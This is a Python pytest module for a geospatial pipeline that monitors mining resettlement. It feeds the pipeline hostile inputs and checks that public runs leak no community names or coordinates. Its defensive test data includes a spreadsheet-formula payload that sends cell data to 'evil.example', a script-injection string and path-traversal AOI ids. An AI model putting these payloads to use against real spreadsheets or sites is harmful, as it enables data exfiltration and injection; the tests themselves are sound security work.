"""Inputs written to break the run or to leak from it (issue 18), through `midr run` on the tiny project of
the bad-input matrix (tests/runner/test_bad_inputs.py): AOI ids that walk out of the run folder, an
events table whose free text plants community names, coordinates, markup and spreadsheet formulas, a
failing AOI after a good run, and a scene deleted while the run reads it.

Public mode must leave no community or site name in any file of the run, text or binary, and no
community or site coordinate: numbers are read back from every format (CSV, JSON, Parquet, GeoPackage,
SPSS, HTML/text) and compared numerically. Text drawn onto the video frames is caught where it is drawn.
"""

from __future__ import annotations

import errno
import json
import re
import shutil
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyreadstat
import pytest
import shapely
import yaml

from conftest import CRS
from pipeline import io
from test_bad_inputs import (GOOD_CONFIG, RUN, Project, _csv_fills_disk_at, _error_line, _hashes, _make_project, _merge,
                             in_process)  # noqa: F401  (in_process: a fixture)

ORIGIN, SITE = "Nhamatanda Velha", "Bairro Novo Seguro"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def golden(tmp_path_factory, in_process_module) -> Path:
    """The tiny good run, once for this module (tests work on copies at the same path)."""
    base = tmp_path_factory.mktemp("hostile")
    _make_project(base / "project")
    result = in_process_module("run", base / "project" / "config.yaml")
    assert result.returncode == 0, result.stderr
    (base / "project").rename(base / "golden")
    return base / "golden"


@pytest.fixture(scope="module")
def in_process_module():
    """`midr ARGS` in this process, for module-scoped fixtures (see test_bad_inputs.in_process)."""
    from typer.testing import CliRunner

    import logging

    from pipeline import cli
    from test_bad_inputs import Ran

    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level

    def invoke(*args) -> Ran:
        result = CliRunner().invoke(cli.app, [str(a) for a in args])
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            raise result.exception
        return Ran(result.exit_code, result.stderr)

    yield invoke
    root.handlers[:], root.level = handlers, level


@pytest.fixture
def project(golden) -> Project:
    root = golden.parent / "project"
    if root.exists():
        shutil.rmtree(root)
    shutil.copytree(golden, root)
    return Project(root)


# --------------------------------------------------------------------------------------------- AOI ids


@pytest.mark.parametrize("bad", ["../../evil", "/srv/x", "a/b", "report", "Stac"])
def test_an_aoi_id_that_would_leave_the_run_folder_or_take_a_run_level_name_exits_2(project, in_process, bad):
    aois = gpd.read_file(project.root / "aoi.geojson").assign(aoi_id=bad)
    aois.to_file(project.root / "aoi.geojson", driver="GeoJSON")
    before = _hashes(project.run_dir)
    outside = sorted(p for p in project.root.parent.rglob("*") if "evil" in p.name or p.name == "x")
    result = in_process("run", project.config())
    line = _error_line(result, f"AOI id {bad!r}")
    assert "is not a safe name: use letters, digits" in line or "is the name of a run-level output" in line
    assert _hashes(project.run_dir) == before
    assert sorted(p for p in project.root.parent.rglob("*") if "evil" in p.name or p.name == "x") == outside
    assert not Path("/srv/x").exists()


# -------------------------------------------------------------------------------------- hostile events


def _hostile_events(root: Path) -> dict:
    """The events table with names, coordinates, markup and formulas planted in every free-text field;
    returns the secrets: the names and the true origin and site points (lat/lon and UTM)."""
    events = pd.read_csv(root / "events.csv")
    origin, site = (events.at[0, "origin_lat"], events.at[0, "origin_lon"]), (events.at[0, "site_lat"], events.at[0, "site_lon"])
    where = f"{origin[0]:.6f}, {origin[1]:.6f}"
    events = events.assign(
        origin_community=ORIGIN, resettlement_site=SITE, company=FORMULA, commodity="@SUM(1)",
        country="+SUM(1+1)", event_type="planned resettlement", mine="-2+3 Mine A",
        source=f"<font color=red>Survey of {ORIGIN}</font> {{\\an8}}(resettled to {SITE}), "
               f"https://example.org/report.pdf?at={where}",
        coords_note=f"church of {ORIGIN} at {where}; new houses at {site[0]:.5f} {site[1]:.5f}",
        notes=f"<script>alert('{SITE}')</script> see {origin[0]:.4f}/{origin[1]:.4f}",
        displaced_unit=f"households of {ORIGIN}")
    events.to_csv(root / "events.csv", index=False)
    utm = gpd.GeoSeries(gpd.points_from_xy([origin[1], site[1]], [origin[0], site[0]]), crs=4326).to_crs(CRS)
    return {"names": [ORIGIN, SITE, "Nhamatanda", "Seguro"],
            "points": [origin, site], "utm": list(zip(utm.x, utm.y))}


@pytest.fixture(scope="module")
def public_run(golden, in_process_module):
    """The tiny project re-run in public mode with the hostile events table, titles and credits; every
    string drawn on a video frame is recorded."""
    from PIL import ImageDraw

    root = golden.parent / "public"
    if root.exists():
        shutil.rmtree(root)
    shutil.copytree(golden, root)
    secrets = _hostile_events(root)
    config = _merge(GOOD_CONFIG, {
        "public": {"enabled": True, "grid_m": 500},
        "video": {"intro_seconds": 1, "outro_seconds": 1, "width": 320, "height": 180,
                  "title": f"Mine A and {ORIGIN}", "credits": f"Data: survey of {SITE} {{years}}",
                  "outro_credits": [f"Thanks to the people of {ORIGIN} ({secrets['points'][0][0]:.5f})"]}})
    (root / "config.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    drawn = []
    text = ImageDraw.ImageDraw.text

    def recording_text(self, xy, content, *args, **kwargs):
        drawn.append(str(content))
        return text(self, xy, content, *args, **kwargs)

    ImageDraw.ImageDraw.text = recording_text
    try:
        result = in_process_module("run", root / "config.yaml")
    finally:
        ImageDraw.ImageDraw.text = text
    assert result.returncode == 0, result.stderr
    return root / "outputs" / RUN, secrets, drawn


_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?")


def _pairs(path: Path) -> np.ndarray:
    """(n, 2) pairs of numbers a file holds that could be one point, decoded from its format: the
    coordinates of every geometry; any two numbers of a table row (numbers inside text cells too); any
    two numbers of a line of text, and any two that follow each other."""
    groups: list[list[float]] = []
    points: list[np.ndarray] = []
    suffix = path.suffix.lower()
    if suffix == ".parquet":
        groups += _rows(pd.read_parquet(path))
    elif suffix == ".gpkg":
        import pyogrio

        for layer, _ in pyogrio.list_layers(path):
            frame = gpd.read_file(path, layer=layer)
            groups += _rows(pd.DataFrame(frame.drop(columns="geometry", errors="ignore")))
            if isinstance(frame, gpd.GeoDataFrame):  # (layer_styles, the QGIS styles table, has no geometry)
                points.append(shapely.get_coordinates(frame.geometry.values))
    elif suffix == ".sav":
        groups += _rows(pyreadstat.read_sav(str(path))[0])
    elif suffix in (".csv", ".json", ".txt", ".srt", ".html", ".qml", ".css"):
        text = path.read_text(errors="replace")
        groups += [[float(m) for m in _NUMBER.findall(line)] for line in text.splitlines()]
        flat = [float(m) for m in _NUMBER.findall(text)]
        points.append(np.column_stack([flat[:-1], flat[1:]]) if len(flat) > 1 else np.empty((0, 2)))
    for group in groups:
        values = np.asarray(group, dtype=float)
        values = values[np.isfinite(values)]
        if len(values) > 1:
            a, b = np.meshgrid(values, values)
            points.append(np.column_stack([a.ravel(), b.ravel()]))
    return np.concatenate(points) if points else np.empty((0, 2))


def _rows(table: pd.DataFrame) -> list[list[float]]:
    rows = []
    for record in table.itertuples(index=False):
        numbers = []
        for cell in record:
            if isinstance(cell, (int, float, np.integer, np.floating)) and not isinstance(cell, bool):
                numbers.append(float(cell))
            elif isinstance(cell, str):
                numbers += [float(m) for m in _NUMBER.findall(cell)]
        rows.append(numbers)
    return rows


def _holds_point(pairs: np.ndarray, point: tuple[float, float], tolerance: float) -> bool:
    a, b = point
    return bool(((np.abs(pairs[:, 0] - a) < tolerance) & (np.abs(pairs[:, 1] - b) < tolerance)).any()
                or ((np.abs(pairs[:, 0] - b) < tolerance) & (np.abs(pairs[:, 1] - a) < tolerance)).any())


def test_public_mode_leaves_no_planted_name_or_coordinate_in_any_output(public_run):
    run_dir, secrets, drawn = public_run
    files = [p for p in run_dir.rglob("*") if p.is_file()]
    assert {".csv", ".parquet", ".gpkg", ".sav", ".json", ".srt", ".txt", ".html", ".mp4", ".png", ".tif"} <= \
        {p.suffix for p in files}
    for path in files:  # names: in the bytes, whatever the format (UTF-8, UTF-16, Latin-1)
        content = path.read_bytes()
        for name in secrets["names"]:
            for encoding in ("utf-8", "utf-16-le"):
                assert name.encode(encoding) not in content, f"{path.relative_to(run_dir)} holds {name!r}"
    for path in files:  # coordinates: compared as numbers, in every format that holds numbers
        pairs = _pairs(path)
        for point in secrets["points"]:
            assert not _holds_point(pairs, point, 1e-4), f"{path.relative_to(run_dir)} holds {point} (to ~10 m)"
        for point in secrets["utm"]:
            assert not _holds_point(pairs, point, 10.0), f"{path.relative_to(run_dir)} holds {point} (UTM, to 10 m)"
    pairs = _pairs(run_dir / "event_records.csv")  # the check finds a point where there is one: the mine's
    mine = pd.read_csv(run_dir / "event_records.csv")[["mine_lat", "mine_lon"]].iloc[0]
    assert _holds_point(pairs, (mine["mine_lat"], mine["mine_lon"]), 1e-4)
    assert drawn, "no text was drawn on the frames"  # the frames: every string drawn on them
    assert not [t for t in drawn if any(n in t for n in secrets["names"])], drawn
    records = pd.read_csv(run_dir / "event_records.csv")  # still useful: the mine and a coarse location
    assert records.at[0, "mine"] == "'-2+3 Mine A" and abs(records.at[0, "origin_lat"] - secrets["points"][0][0]) < 0.01


def test_plain_text_outputs_carry_no_injected_markup(public_run):
    run_dir, _, _ = public_run
    for path in (run_dir / "mine_a" / "video" / "youtube.txt", run_dir / "mine_a" / "video" / "mine_a.srt",
                 run_dir / "exports" / "kumu.json"):
        text = path.read_text()
        for markup in ("<font", "</font>", "<script", "{\\an8}", "<b>"):
            assert markup not in text, f"{path.name} holds {markup!r}"
    youtube = (run_dir / "mine_a" / "video" / "youtube.txt").read_text()
    assert "Survey of [withheld]" in youtube  # the source is there, as plain text


def test_no_csv_or_spss_cell_runs_as_a_spreadsheet_formula(public_run):
    run_dir, _, _ = public_run
    tables = [run_dir / "event_records.csv", *sorted((run_dir / "exports").glob("*.csv")),
              *sorted((run_dir / "summary").glob("*.csv")), *sorted(run_dir.glob("*/*/*.csv"))]
    cells = []
    for path in tables:
        if not path.read_text().strip():  # an empty table (e.g. no disaster event: no impact rows) holds no cell
            continue
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        cells += [(path.name, c) for column in table.columns for c in [column, *table[column]]]
    sav, _ = pyreadstat.read_sav(str(run_dir / "exports" / "events.sav"))
    cells += [("events.sav", c) for column in sav.columns if pd.api.types.is_string_dtype(sav[column]) for c in sav[column]]
    dangerous = [(name, c) for name, c in cells if isinstance(c, str) and c[:1] in ("=", "+", "@", "\t", "\r")
                 or isinstance(c, str) and c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c)]
    assert dangerous == []
    assert ("event_records.csv", "'" + FORMULA) in cells and ("events.sav", "'" + FORMULA) in cells
    exported = pd.read_csv(run_dir / "exports" / "event_records.csv")
    assert exported.at[0, "country"] == "'+SUM(1+1)" and exported.at[0, "commodity"] == "'@SUM(1)"
    assert exported.at[0, "mine"] == "'-2+3 Mine A"
    assert pd.read_parquet(run_dir / "exports" / "event_records.parquet").at[0, "company"] == "'" + FORMULA
    numbers = pd.read_csv(run_dir / "exports" / "baci.csv")
    assert all(pd.api.types.is_float_dtype(numbers[c]) for c in ("effect_ha", "ci95_low_ha", "ci95_high_ha"))


# ------------------------------------------------------------------------------ a failing AOI keeps its


def test_a_failing_aoi_keeps_its_exports_report_page_and_stac_items(project, in_process, monkeypatch):
    table = project.run_dir / "mine_a" / "events" / "baci.csv"
    _csv_fills_disk_at(monkeypatch, table)
    before = _hashes(project.run_dir)
    result = in_process("run", project.config(), "--force", "events")
    _error_line(result, "aoi 'mine_a'", f"disk full while writing {table}")
    after = _hashes(project.run_dir)
    products = [name for name in before if name.split("/")[0] in ("exports", "summary", "stac", "report")]
    assert len(products) > 20 and any(name.startswith("stac/mine_a/") for name in products)
    changed = [name for name in products if after.get(name) != before[name]]
    assert changed == ["report/index.html"], changed  # the last good version of everything else
    exported = pd.read_csv(project.run_dir / "exports" / "baci.csv")
    assert set(exported["aoi_id"]) == {"mine_a"} and len(exported) > 0
    index = (project.run_dir / "report" / "index.html").read_text()
    assert "failed in this run: its page shows the results of an earlier run" in index
    manifest = json.loads((project.run_dir / "manifest.json").read_text())
    assert manifest["aois"]["mine_a"]["status"] == "failed"
    assert manifest["products"]["kept_from_earlier_run"] == ["mine_a"]


def test_a_public_run_does_not_keep_pages_of_a_run_that_was_not_public(project, in_process, monkeypatch):
    """What a failing AOI keeps must not bring a community's name into a public report."""
    pd.read_csv(project.root / "events.csv").assign(origin_community=ORIGIN).to_csv(project.root / "events.csv",
                                                                                   index=False)
    assert in_process("run", project.config()).returncode == 0  # not public: the name is in the report
    assert ORIGIN in (project.run_dir / "report" / "mine_a.html").read_text()

    def failing(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(project.run_dir / "mine_a" / "video" / "x"))

    monkeypatch.setattr("pipeline.runner.run.make_timelapse", failing)
    result = in_process("run", project.config({"public": {"enabled": True}}))
    _error_line(result, "aoi 'mine_a'", "disk full")
    for path in project.run_dir.rglob("*"):
        if path.is_file() and path.parts[len(project.run_dir.parts)] in ("report", "exports", "stac", "summary"):
            assert ORIGIN.encode() not in path.read_bytes(), path


# ---------------------------------------------------------------------------- a scene deleted mid-run


def test_a_scene_deleted_while_the_run_reads_it_exits_2_naming_it(project, in_process, monkeypatch):
    from pipeline.runner import run as runner

    gone = project.root / "scenes" / "scene_20200601.tif"
    composite_stage = runner.composite_stage

    def deleted_then_read(*args, **kwargs):
        gone.unlink()  # listed and hashed, then deleted before its pixels are read
        return composite_stage(*args, **kwargs)

    monkeypatch.setattr(runner, "composite_stage", deleted_then_read)
    result = in_process("run", project.config(), "--force", "composite")
    line = _error_line(result, "aoi 'mine_a'", f"{gone}: the file is gone: it was deleted or moved")
    assert "truncated" not in line


def test_errors_met_on_a_dask_worker_keep_their_kind(tmp_path):
    """A full disk or a deleted scene on a worker process: the runner reports them as the user's to fix
    (exit 2, the file named), not as a crash (exit 1)."""
    import dask
    from distributed import Client, LocalCluster

    from conftest import write_scene
    from pipeline.errors import InputError, OutputError, as_pipeline_error
    from pipeline.ingest.rasters import open_raster

    path = write_scene(tmp_path / "scene_20200101.tif", np.ones((7, 10, 10), "uint16"))
    raster = open_raster(path, chunk_size=64)
    path.unlink()
    target = tmp_path / "composites" / "2020.tif"
    with LocalCluster(n_workers=1, threads_per_worker=1, processes=True, dashboard_address=None) as cluster, \
            Client(cluster):
        with pytest.raises(InputError, match=f"{path}: the file is gone: it was deleted or moved"):
            raster.compute()
        with pytest.raises(OutputError, match=f"disk full while writing {target}"):  # as GDAL reports it
            dask.compute(dask.delayed(_write_as_gdal_on_a_full_disk)(str(target)))
        with pytest.raises(OSError) as caught:  # a full disk met outside the writers
            dask.compute(dask.delayed(_write_on_a_full_disk)(str(target)))
    known = as_pipeline_error(caught.value)
    assert isinstance(known, OutputError) and known.exit_code == 2
    assert str(known).startswith(f"disk full while writing {target} (No space left on device)")


def _write_on_a_full_disk(path: str) -> None:
    raise OSError(errno.ENOSPC, "No space left on device", path)


def _write_as_gdal_on_a_full_disk(path: str) -> None:
    """On the worker: write a COG as the composite stage does while GDAL fails, on a disk that is full
    (GDAL's error carries no errno; its chain holds rasterio's CPLE errors, which cannot be unpickled)."""
    import rioxarray  # noqa: F401
    import xarray as xr

    from conftest import RES, X0, Y0

    io._disk_full = lambda folder: True  # in this worker process only: the disk is full
    target = Path(path)
    io.part_path(target).mkdir(parents=True)  # and GDAL cannot create the file
    raster = xr.DataArray(np.ones((4, 4), "float32"), dims=("y", "x"),
                          coords={"y": Y0 - RES * np.arange(4), "x": X0 + RES * np.arange(4)}).rio.write_crs(CRS)
    io.write_period_cog(raster, target, band_names=["red"], nodata=np.nan)
